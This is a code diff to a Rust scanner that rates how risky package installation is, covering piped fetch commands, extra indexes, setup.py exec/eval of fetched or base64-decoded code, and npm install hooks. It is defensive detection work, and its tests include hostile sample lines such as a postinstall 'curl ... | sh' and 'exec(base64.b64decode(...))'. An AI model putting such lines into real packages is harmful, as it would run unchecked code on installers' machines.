@@ -1,5 +1,6 @@
 //! What runs when a package is installed, and commands that install or fetch.
 
+use super::code;
 use crate::remark::{Remark, Weight};
 
 const LOOK: &str = "read what it does before it is installed, or install a built wheel";
@@ -20,7 +21,7 @@ pub fn command(line: &str) -> Vec<Remark> {
     if fetches && piped {
         let why = "what is fetched runs at once, whatever it is";
         let next = "fetch it, check its hash, read it, and then run it";
-        say("deps.fetch_and_run", Weight::Suspicious, why, next);
+        say("deps.fetch_and_run", Weight::Weakness, why, next);
     }
     let installs = words.windows(2).any(|pair| matches!(pair, ["pip" | "pip3" | "uv", "install"]))
         || words.windows(3).any(|three| matches!(three, [_, "pip", "install"]));
@@ -32,10 +33,10 @@ pub fn command(line: &str) -> Vec<Remark> {
         if *word == "--extra-index-url" || word.starts_with("--extra-index-url=") {
             let why = "two indexes are asked: whoever has the higher version wins";
             let next = "use one index, or pin every hash";
-            say("deps.two_indexes", Weight::Suspicious, why, next);
+            say("deps.two_indexes", Weight::Weakness, why, next);
         } else if word.contains("http://") {
             let why = "it comes over an unprotected connection";
-            say("deps.plain_http", Weight::Suspicious, why, "use https");
+            say("deps.plain_http", Weight::Weakness, why, "use https");
         } else if word.starts_with("git+") && !word.rsplit('@').next().is_some_and(super::is_commit)
         {
             let why = "it comes from a branch that may move";
@@ -72,18 +73,30 @@ pub fn setup_py(source: &str) -> Vec<Remark> {
         words.iter().find(|word| plain.contains(**word)).copied().map(str::to_owned)
     };
     let (runs, fetches, hides) = (found(&RUNS), found(&FETCHES), found(&HIDES));
+    let direct = |words: &[&str]| runs_what(source, words);
     let mut remarks = Vec::new();
     let mut say = |rule, weight, why: &str, evidence: &str| {
         remarks.push(Remark::new(rule, weight, 0, why, evidence, LOOK));
     };
     match (&runs, &fetches, &hides) {
+        (Some(_), Some(_), _) if direct(&FETCHES).is_some() => {
+            let why = "its installation runs what it fetches, whatever that is";
+            let seen = direct(&FETCHES).unwrap_or_default();
+            say("deps.install.fetch_and_run", Weight::Malicious, why, &seen);
+        }
+        (Some(_), _, Some(_)) if direct(&HIDES).is_some() => {
+            let why = "its installation runs something that is hidden in it";
+            say("deps.install.hidden", Weight::Malicious, why, &direct(&HIDES).unwrap_or_default());
+        }
+        // Packages that build programs fetch parts of them; most of those are what they say.
         (Some(runs), Some(fetches), _) => {
             let why = "its installation fetches something and runs something";
-            say("deps.install.fetch_and_run", Weight::Malicious, why, &format!("{fetches} {runs}"));
+            let seen = format!("{fetches} {runs}");
+            say("deps.install.fetches_and_runs", Weight::Weakness, why, &seen);
         }
         (Some(runs), None, Some(hides)) => {
-            let why = "its installation runs something that is hidden in it";
-            say("deps.install.hidden", Weight::Malicious, why, &format!("{hides} {runs}"));
+            let why = "its installation decodes something and runs something";
+            say("deps.install.decodes", Weight::Weakness, why, &format!("{hides} {runs}"));
         }
         (Some(runs), None, None) => {
             say("deps.install.runs", Weight::Note, "its installation runs programs", runs);
@@ -97,6 +110,19 @@ pub fn setup_py(source: &str) -> Vec<Remark> {
     remarks
 }
 
+/// A call that runs something whose argument is one of these calls, as it stands.
+fn runs_what(source: &str, inner: &[&str]) -> Option<String> {
+    let runs = |name: &str| {
+        matches!(name, "exec" | "eval" | "os.system" | "os.popen")
+            || name.starts_with("subprocess.")
+    };
+    code::calls(source).into_iter().filter(|call| runs(&call.name)).find_map(|call| {
+        let arguments = call.arguments.join(", ");
+        let found = inner.iter().any(|word| arguments.contains(word));
+        found.then(|| format!("{}({arguments})", call.name))
+    })
+}
+
 /// What is to be said of a `package.json`.
 pub fn package_json(bytes: &[u8]) -> Vec<Remark> {
     let Ok(json) = serde_json::from_slice::<serde_json::Value>(bytes) else {
@@ -108,6 +134,10 @@ pub fn package_json(bytes: &[u8]) -> Vec<Remark> {
     let hook = |(name, script): (&String, &serde_json::Value)| {
         let script = script.as_str().filter(|_| hooks.contains(&name.as_str()))?;
         let mut remarks = command(script);
+        // Nobody reads along when it is installed.
+        for remark in remarks.iter_mut().filter(|remark| remark.rule == "deps.fetch_and_run") {
+            remark.weight = Weight::Suspicious;
+        }
         let why = format!("`{name}` runs when it is installed");
         remarks.push(Remark::new("deps.install.runs", Weight::Note, 0, why, script, LOOK));
         Some(remarks)
@@ -145,6 +175,8 @@ mod tests {
         assert_eq!(rules(setup_py(bad)), ["deps.install.fetch_and_run"]);
         let hidden = "exec(base64.b64decode('eA=='))\nsetup()";
         assert_eq!(rules(setup_py(hidden)), ["deps.install.hidden"]);
+        let usual = "subprocess.check_call(['make'])\nurlretrieve(url, path)\nsetup()";
+        assert_eq!(rules(setup_py(usual)), ["deps.install.fetches_and_runs"]);
         assert_eq!(rules(setup_py("# os.system('x')\nsetup(name='a')")), [""; 0]);
         let node = br#"{"scripts": {"postinstall": "curl https://a.example | sh", "test": "x"}}"#;
         assert_eq!(rules(package_json(node)), ["deps.fetch_and_run", "deps.install.runs"]);
